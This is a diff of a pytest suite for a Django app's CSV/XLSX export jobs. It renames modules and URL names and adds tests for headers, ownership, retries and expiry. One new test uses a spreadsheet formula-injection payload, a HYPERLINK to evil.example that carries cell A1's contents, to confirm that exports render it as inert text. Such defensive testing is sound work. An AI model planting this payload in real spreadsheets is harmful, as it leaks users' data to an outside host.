@@ -13,9 +13,11 @@ from django.urls import reverse
 from django.utils import timezone
 
 from agencies.models import Agency
+from core import export_jobs, exports
+from core.models import ExportJob, export_path
+from innovations.exports import INNOVATIONS
 from innovations.models import Category, State
-from reports import exports, services
-from reports.models import ExportJob, export_path
+from reports.exports import QUOTA, QUOTA_HEADERS
 from tests.conftest import client_for
 from tests.factories import user_with_role
 
@@ -25,7 +27,7 @@ TODAY = timezone.localdate()
 
 
 def start_url(kind, **params):
-    url = reverse("reports:export-start", args=[kind])
+    url = reverse("exports:start", args=[kind])
     return f"{url}?{urlencode(params)}" if params else url
 
 
@@ -150,7 +152,7 @@ def test_quota_export_rows_and_filters(people, chart, quota_status):
     )
 
     assert csv_rows(response) == [
-        exports.QUOTA_HEADERS,
+        QUOTA_HEADERS,
         ["2026", "81.71", "DINKES", "Dinas Kesehatan", "dinas", "fulfilled", "2", "2026-03-01 09:00"],
     ]
     assert response["Content-Disposition"] == f'attachment; filename="kuota-{TODAY:%Y%m%d}.csv"'
@@ -286,7 +288,7 @@ def queued(people, register, settings, django_capture_on_commit_callbacks):
         response = client_for(people["reviewer"]).post(start_url("innovations", state="submitted"), {"format": "csv"})
     job = ExportJob.objects.get()
     assert response.status_code == 302
-    assert response["Location"] == reverse("reports:export-detail", args=[job.token])
+    assert response["Location"] == reverse("exports:detail", args=[job.token])
     assert len(callbacks) == 1  # the task, sent once the job row is committed
     return job
 
@@ -309,7 +311,7 @@ def test_a_large_export_becomes_a_job_with_the_pages_filters(people, queued, set
     )
     assert queued.expires_at - queued.created == datetime.timedelta(hours=24)
 
-    job = services.export_run(job_id=queued.pk)
+    job = export_jobs.export_run(job_id=queued.pk)
 
     assert (job.state, job.rows_done, job.rows_total, job.attempts, job.error) == ("done", 2, 2, 1, "")
     assert job.file.name == f"exports/{people['reviewer'].pk}/{job.token.hex}.csv"
@@ -318,8 +320,8 @@ def test_a_large_export_becomes_a_job_with_the_pages_filters(people, queued, set
 
 
 def test_a_job_runs_once_however_often_its_task_is_delivered(queued):
-    first = services.export_run(job_id=queued.pk)
-    second = services.export_run(job_id=queued.pk)
+    first = export_jobs.export_run(job_id=queued.pk)
+    second = export_jobs.export_run(job_id=queued.pk)
 
     assert (first.state, first.attempts) == ("done", 1)
     assert second is None
@@ -335,12 +337,12 @@ def test_a_job_that_failed_halfway_runs_again_and_rewrites_its_file(queued, monk
         raise OSError("disk full")
 
     monkeypatch.setattr(exports, "write_file", crash_after_one_row)
-    failed = services.export_run(job_id=queued.pk)
+    failed = export_jobs.export_run(job_id=queued.pk)
     assert (failed.state, failed.error, failed.file.name) == ("failed", "Berkas tidak dapat ditulis. Coba lagi.", "")
 
     monkeypatch.setattr(exports, "write_file", real_write)
-    services.export_retry(job=failed, by=failed.owner)
-    done = services.export_run(job_id=queued.pk)
+    export_jobs.export_retry(job=failed, by=failed.owner)
+    done = export_jobs.export_run(job_id=queued.pk)
 
     assert (done.state, done.attempts, done.error) == ("done", 2, "")
     assert [row[4] for row in file_rows(done)] == ["title", "Posyandu Kelurahan", "Klinik Keliling"]
@@ -353,7 +355,7 @@ def test_a_job_whose_worker_vanished_is_claimed_again_and_its_half_file_replaced
         state="running", started=timezone.now() - datetime.timedelta(minutes=31), attempts=1, file=name
     )
 
-    job = services.export_run(job_id=queued.pk)
+    job = export_jobs.export_run(job_id=queued.pk)
 
     assert (job.state, job.attempts, job.file.name) == ("done", 2, name)
     assert [row[4] for row in file_rows(job)] == ["title", "Posyandu Kelurahan", "Klinik Keliling"]
@@ -362,40 +364,77 @@ def test_a_job_whose_worker_vanished_is_claimed_again_and_its_half_file_replaced
 def test_a_running_job_is_not_claimed_twice(queued):
     ExportJob.objects.filter(pk=queued.pk).update(state="running", started=timezone.now(), attempts=1)
 
-    assert services.export_run(job_id=queued.pk) is None
+    assert export_jobs.export_run(job_id=queued.pk) is None
 
 
 def test_only_a_failed_job_can_be_retried_and_only_by_its_owner(people, queued):
     from django.core.exceptions import ValidationError
 
     with pytest.raises(ValidationError) as not_failed:
-        services.export_retry(job=queued, by=people["reviewer"])
+        export_jobs.export_retry(job=queued, by=people["reviewer"])
     ExportJob.objects.filter(pk=queued.pk).update(state="failed")
     with pytest.raises(ValidationError) as not_owner:
-        services.export_retry(job=queued, by=people["admin"])
+        export_jobs.export_retry(job=queued, by=people["admin"])
 
     assert not_failed.value.messages == ["Unduhan ini tidak gagal: tidak ada yang perlu dijalankan lagi."]
     assert not_owner.value.messages == ["Hanya orang yang meminta unduhan ini yang dapat menjalankannya lagi."]
 
 
 def test_an_export_whose_filters_no_longer_apply_fails_with_a_message(people, quota_status):
-    job = services.export_start(
-        owner=people["reviewer"], table=exports.QUOTA, fmt="csv", parameters={"year": ["20x6"]}, estimate=10
+    job = export_jobs.export_start(
+        owner=people["reviewer"], table=QUOTA, fmt="csv", parameters={"year": ["20x6"]}, estimate=10
     )
 
-    job = services.export_run(job_id=job.pk)
+    job = export_jobs.export_run(job_id=job.pk)
 
     assert (job.state, job.error) == ("failed", "Tahun tidak dapat dibaca.")
 
 
 def test_xlsx_job_writes_a_workbook(people, register):
-    job = services.export_start(owner=people["head"], table=exports.INNOVATIONS, fmt="xlsx", parameters={}, estimate=2)
+    job = export_jobs.export_start(owner=people["head"], table=INNOVATIONS, fmt="xlsx", parameters={}, estimate=2)
 
-    job = services.export_run(job_id=job.pk)
+    job = export_jobs.export_run(job_id=job.pk)
 
     rows = file_rows(job)
     assert [r[4] for r in rows] == ["title", "Posyandu Digital", "Klinik Keliling"]
     assert job.download_name == f"inovasi-{TODAY:%Y%m%d}.xlsx"
+
+
+@pytest.mark.parametrize("kind", ["innovations", "quota", "assessments", "agencies"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_table_has_the_same_header_from_the_page_button_and_from_a_job(people, kind, fmt):
+    reviewer = client_for(people["reviewer"])
+
+    direct = reviewer.post(start_url(kind), {"format": fmt})
+    job = export_jobs.export_start(
+        owner=people["reviewer"], table=exports.TABLES[kind], fmt=fmt, parameters={}, estimate=0
+    )
+    job = export_jobs.export_run(job_id=job.pk)
+
+    if fmt == "csv":
+        page_header = csv_rows(direct)[0]
+    else:
+        page_header = list(next(openpyxl.load_workbook(io.BytesIO(direct.content)).worksheets[0].values))
+    assert page_header == file_rows(job)[0] == exports.TABLES[kind].headers
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_title_arrives_as_text_from_the_list_page_and_from_a_job(people, chart, make_innovation, fmt):
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+    make_innovation(chart["dinkes"], people["staff"], State.ACCEPTED, title=evil)
+    reviewer = client_for(people["reviewer"])
+
+    page = reviewer.get(reverse("innovations:list"), {"export": fmt})
+    job = export_jobs.export_start(owner=people["reviewer"], table=INNOVATIONS, fmt=fmt, parameters={}, estimate=1)
+    job = export_jobs.export_run(job_id=job.pk)
+
+    if fmt == "csv":
+        assert csv_rows(page)[1][4] == file_rows(job)[1][4] == f"'{evil}"
+    else:
+        with default_storage.open(job.file.name, "rb") as handle:
+            from_job = openpyxl.load_workbook(io.BytesIO(handle.read())).worksheets[0]["E2"]
+        from_page = openpyxl.load_workbook(io.BytesIO(page.content)).worksheets[0]["E2"]
+        assert [(c.data_type, c.value) for c in (from_page, from_job)] == [("s", evil), ("s", evil)]
 
 
 # --- pages of a job: only its owner ----------------------------------------------------------------------------
@@ -403,10 +442,10 @@ def test_xlsx_job_writes_a_workbook(people, register):
 
 @pytest.fixture
 def done(queued):
-    return services.export_run(job_id=queued.pk)
+    return export_jobs.export_run(job_id=queued.pk)
 
 
-@pytest.mark.parametrize("view", ["export-detail", "export-status", "export-download"])
+@pytest.mark.parametrize("view", ["detail", "status", "download"])
 @pytest.mark.parametrize(
     ("who", "status"),
     [
@@ -420,7 +459,7 @@ def done(queued):
     ],
 )
 def test_a_job_and_its_file_are_only_for_its_owner(people, done, view, who, status):
-    response = client_for(people.get(who)).get(reverse(f"reports:{view}", args=[done.token]))
+    response = client_for(people.get(who)).get(reverse(f"exports:{view}", args=[done.token]))
 
     assert response.status_code == status
 
@@ -430,11 +469,11 @@ def test_a_superuser_cannot_open_someone_elses_export(people, done):
     root.is_superuser = True
     root.save()
 
-    assert client_for(root).get(reverse("reports:export-download", args=[done.token])).status_code == 404
+    assert client_for(root).get(reverse("exports:download", args=[done.token])).status_code == 404
 
 
 def test_download_serves_the_file_as_an_attachment(people, done):
-    response = client_for(people["reviewer"]).get(reverse("reports:export-download", args=[done.token]))
+    response = client_for(people["reviewer"]).get(reverse("exports:download", args=[done.token]))
 
     assert response["Content-Disposition"] == f'attachment; filename="inovasi-{TODAY:%Y%m%d}.csv"'
     body = b"".join(response.streaming_content).decode("utf-8-sig")
@@ -444,9 +483,9 @@ def test_download_serves_the_file_as_an_attachment(people, done):
 def test_status_says_where_the_job_is(people, queued, done):
     reviewer = client_for(people["reviewer"])
 
-    ready = reviewer.get(reverse("reports:export-status", args=[done.token])).json()
+    ready = reviewer.get(reverse("exports:status", args=[done.token])).json()
     ExportJob.objects.filter(pk=done.pk).update(state="running", rows_done=1, rows_total=2)
-    running = reviewer.get(reverse("reports:export-status", args=[done.token])).json()
+    running = reviewer.get(reverse("exports:status", args=[done.token])).json()
 
     assert ready == {
         "state": "done",
@@ -455,7 +494,7 @@ def test_status_says_where_the_job_is(people, queued, done):
         "rows_total": 2,
         "percent": 100,
         "finished": True,
-        "download_url": reverse("reports:export-download", args=[done.token]),
+        "download_url": reverse("exports:download", args=[done.token]),
     }
     assert running == {
         "state": "running",
@@ -472,15 +511,15 @@ def test_status_says_where_the_job_is(people, queued, done):
 def test_a_file_that_is_not_ready_is_not_served(people, done, state):
     ExportJob.objects.filter(pk=done.pk).update(state=state)
 
-    assert client_for(people["reviewer"]).get(reverse("reports:export-download", args=[done.token])).status_code == 404
+    assert client_for(people["reviewer"]).get(reverse("exports:download", args=[done.token])).status_code == 404
 
 
 def test_an_expired_file_is_not_served_and_the_page_says_so(people, done):
     ExportJob.objects.filter(pk=done.pk).update(expires_at=timezone.now() - datetime.timedelta(minutes=1))
     reviewer = client_for(people["reviewer"])
 
-    download = reviewer.get(reverse("reports:export-download", args=[done.token]))
-    page = reviewer.get(reverse("reports:export-detail", args=[done.token]))
+    download = reviewer.get(reverse("exports:download", args=[done.token]))
+    page = reviewer.get(reverse("exports:detail", args=[done.token]))
 
     assert download.status_code == 404
     assert "Berkas ini sudah dihapus" in page.content.decode()
@@ -489,20 +528,20 @@ def test_an_expired_file_is_not_served_and_the_page_says_so(people, done):
 def test_progress_page_refreshes_itself_without_javascript_until_the_job_ends(people, queued):
     reviewer = client_for(people["reviewer"])
 
-    waiting = reviewer.get(reverse("reports:export-detail", args=[queued.token])).content.decode()
-    services.export_run(job_id=queued.pk)
-    ready = reviewer.get(reverse("reports:export-detail", args=[queued.token])).content.decode()
+    waiting = reviewer.get(reverse("exports:detail", args=[queued.token])).content.decode()
+    export_jobs.export_run(job_id=queued.pk)
+    ready = reviewer.get(reverse("exports:detail", args=[queued.token])).content.decode()
 
     assert '<noscript><meta http-equiv="refresh" content="5"></noscript>' in waiting
     assert "http-equiv" not in ready
-    assert reverse("reports:export-download", args=[queued.token]) in ready
+    assert reverse("exports:download", args=[queued.token]) in ready
 
 
 def test_retry_page_queues_a_failed_job_again(people, queued, django_capture_on_commit_callbacks):
     ExportJob.objects.filter(pk=queued.pk).update(state="failed", error="x")
 
     with django_capture_on_commit_callbacks(execute=False) as callbacks:
-        response = client_for(people["reviewer"]).post(reverse("reports:export-retry", args=[queued.token]))
+        response = client_for(people["reviewer"]).post(reverse("exports:retry", args=[queued.token]))
 
     queued.refresh_from_db()
     assert (response.status_code, queued.state, queued.error, len(callbacks)) == (302, "queued", "", 1)
@@ -511,7 +550,7 @@ def test_retry_page_queues_a_failed_job_again(people, queued, django_capture_on_
 def test_retry_by_someone_else_is_404(people, queued):
     ExportJob.objects.filter(pk=queued.pk).update(state="failed")
 
-    response = client_for(people["admin"]).post(reverse("reports:export-retry", args=[queued.token]))
+    response = client_for(people["admin"]).post(reverse("exports:retry", args=[queued.token]))
 
     queued.refresh_from_db()
     assert (response.status_code, queued.state) == (404, "failed")
@@ -534,7 +573,7 @@ def test_my_downloads_lists_only_my_jobs(people):
     mine = [_job(people["head"], kind="quota"), _job(people["head"])]
     _job(people["reviewer"])
 
-    response = client_for(people["head"]).get(reverse("reports:exports"))
+    response = client_for(people["head"]).get(reverse("exports:list"))
 
     assert [job.pk for job, _table in response.context["jobs"]] == [mine[1].pk, mine[0].pk]
 
@@ -543,11 +582,11 @@ def test_my_downloads_query_count_does_not_grow(people, django_assert_num_querie
     head = client_for(people["head"])
     _job(people["head"])
     with django_assert_num_queries(5):
-        head.get(reverse("reports:exports"))
+        head.get(reverse("exports:list"))
     _job(people["head"], kind="quota")
     _job(people["head"], kind="agencies", state="done", file="exports/x.csv")
     with django_assert_num_queries(5):
-        response = head.get(reverse("reports:exports"))
+        response = head.get(reverse("exports:list"))
 
     assert len(response.context["jobs"]) == 3
 
@@ -561,8 +600,8 @@ def test_expired_jobs_and_their_files_are_deleted_and_a_second_run_finds_nothing
     name = done.file.name
     assert default_storage.exists(name)
 
-    first = services.exports_delete_expired()
-    second = services.exports_delete_expired()
+    first = export_jobs.exports_delete_expired()
+    second = export_jobs.exports_delete_expired()
 
     assert (first, second) == (1, 0)
     assert not default_storage.exists(name)
